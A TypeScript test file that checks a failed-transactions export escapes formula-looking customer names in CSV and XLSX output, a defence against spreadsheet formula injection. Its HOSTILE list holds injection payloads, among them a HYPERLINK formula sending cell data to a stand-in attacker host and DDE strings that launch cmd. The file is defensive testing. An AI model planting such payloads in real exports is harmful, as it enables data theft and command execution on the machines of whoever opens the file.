/**
 * OWASP CSV injection: customer-entered text that a spreadsheet would run as a formula is exported as text
 * (a leading single quote), in the CSV and in the workbook alike; amounts stay numbers.
 */
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createOrg, type TestOrg } from '../../../test/factories';
import { ftAccount, ftCard, ftEntry } from '../../../test/failed-transaction-fixtures';
import { createTestContext, type TestContext } from '../../../test/harness';
import { spreadsheetText } from './failed-transactions.export';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];
const PLAIN = 'Hélène Côté';
const URL = '/api/v1/action-center/failed-transactions/export';

let t: TestContext;
let o: TestOrg;

beforeAll(async () => {
  t = await createTestContext();
  o = await createOrg(t.c);
  for (const name of [...HOSTILE, PLAIN]) {
    const accountId = await ftAccount(t.c, o.organizationId, { name });
    const card = await ftCard(t.c, o.organizationId, accountId);
    await ftEntry(t.c, o.organizationId, { accountId, paymentMethodId: card, amount: 12_550n });
  }
});
afterAll(async () => t?.close());

const exportAs = (format: 'csv' | 'xlsx') =>
  t.app.inject({
    method: 'GET',
    url: `${URL}?format=${format}`,
    headers: { authorization: `Bearer ${o.adminToken}`, 'accept-language': 'en-CA' },
  });

describe('errors: formula-looking text is exported as text', () => {
  it('CSV: every hostile name gets a leading quote, others are unchanged, amounts stay numbers', async () => {
    const res = await exportAs('csv');
    expect(res.statusCode).toBe(200);
    const records = parse(res.rawPayload.toString('utf8'), { bom: true }) as string[][];
    const rows = records.slice(1);
    expect(rows).toHaveLength(HOSTILE.length + 1);
    const names = rows.map((r) => r[0]);
    expect(names.sort()).toEqual([...HOSTILE.map((h) => `'${h}`), PLAIN].sort());
    for (const row of rows) {
      for (const cell of row) expect(cell, JSON.stringify(row)).not.toMatch(/^[=+\-@\t\r]/);
      expect(row[5]).toBe('125.50');
      expect(Number(row[5])).toBe(125.5);
    }
  });

  it('XLSX: every text cell is neutralised, no cell is a formula, amounts are numeric cells', async () => {
    const res = await exportAs('xlsx');
    expect(res.statusCode).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(res.rawPayload as never);
    const sheet = workbook.worksheets[0]!;
    const names: string[] = [];
    for (let r = 2; r <= sheet.rowCount; r++) {
      const row = sheet.getRow(r);
      names.push(String(row.getCell(1).value));
      row.eachCell((cell) => {
        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
        if (typeof cell.value === 'string') expect(cell.value).not.toMatch(/^[=+\-@\t\r]/);
      });
      expect(row.getCell(6).type).toBe(ExcelJS.ValueType.Number);
      expect(row.getCell(6).value).toBe(125.5);
    }
    // XML turns a carriage return into a line feed on the way back; the quote is what matters.
    const lf = (v: string) => v.replace(/\r/g, '\n');
    expect(names.map(lf).sort()).toEqual([...HOSTILE.map((h) => lf(`'${h}`)), PLAIN].sort());
  });
});

describe('happy: spreadsheetText', () => {
  it('leaves ordinary text alone and prefixes each dangerous first character', () => {
    expect(spreadsheetText('Marie Tremblay')).toBe('Marie Tremblay');
    expect(spreadsheetText('a=1')).toBe('a=1');
    expect(spreadsheetText('')).toBe('');
    for (const c of ['=', '+', '-', '@', '\t', '\r']) expect(spreadsheetText(`${c}x`)).toBe(`'${c}x`);
  });
});
